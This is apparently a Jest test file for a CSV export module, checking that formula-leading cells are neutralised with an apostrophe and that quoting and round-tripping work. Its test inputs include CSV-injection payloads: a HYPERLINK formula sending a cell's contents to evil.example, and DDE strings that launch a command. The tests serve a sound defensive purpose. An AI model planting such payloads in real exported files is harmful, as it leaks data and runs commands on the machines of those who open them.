import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { type CsvValue, csvLine, csvTable } from '../../src/reports/csvTable.js';
import { uniforms } from '../support/random.js';

describe('csvLine', () => {
  // OWASP, CSV Injection: the characters that a cell must not begin with.
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '\u00a0=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@handle',
  ])('makes a text of the formula %j', (text) => {
    const [[cell]] = parse(csvLine([text]), { record_delimiter: '\r\n' }) as [[string]];
    expect(cell).toBe(`'${text}`);
  });

  it('leaves everything else as it is', () => {
    expect(csvLine(['a', 'a=b', "'quoted'", '', null, undefined, -1, 1.5, 10n, true])).toBe(
      "a,a=b,'quoted',,,,-1,1.5,10,true\r\n",
    );
    expect(csvLine([new Date('2026-03-14T15:44:00Z')])).toBe('2026-03-14T15:44:00.000Z\r\n');
  });

  it('quotes what would end a cell or a row', () => {
    expect(csvLine(['a,b', 'say "hi"', 'two\r\nlines', ' padded ', 'x;y', '"'])).toBe(
      '"a,b","say ""hi""","two\r\nlines"," padded ","x;y",""""\r\n',
    );
  });

  it('is read back as it was by another reader, whatever the texts are', () => {
    const draw = uniforms(7);
    const pieces = [',', '"', '\n', '\r\n', '\r', 'a', ' ', 'ä', '🦊', '\t', ';', "'", '\u202e', '\0'];
    const text = () =>
      `x${Array.from({ length: Math.floor(draw() * 9) }, () => pieces[Math.floor(draw() * pieces.length)]!).join('')}`;
    for (let i = 0; i < 500; i++) {
      const row = Array.from({ length: 3 }, text);
      expect(parse(csvLine(row), { record_delimiter: '\r\n' })).toEqual([row]);
    }
  });
});

describe('csvTable', () => {
  const lines = async (rows: CsvValue[][], mark?: boolean) => {
    let all = '';
    for await (const line of csvTable({ columns: ['id', '=note'], rows, ...(mark === undefined ? {} : { mark }) }))
      all += line;
    return all;
  };

  it('begins with its columns, and with a byte order mark where it is asked for', async () => {
    expect(await lines([['1', 'a']])).toBe("id,'=note\r\n1,a\r\n");
    expect(await lines([['1', 'a']], true)).toBe("\ufeffid,'=note\r\n1,a\r\n");
  });

  it('refuses a row that does not fit its columns', async () => {
    await expect(lines([['1']])).rejects.toThrow('csvTable: expected 2 values, got 1');
  });
});
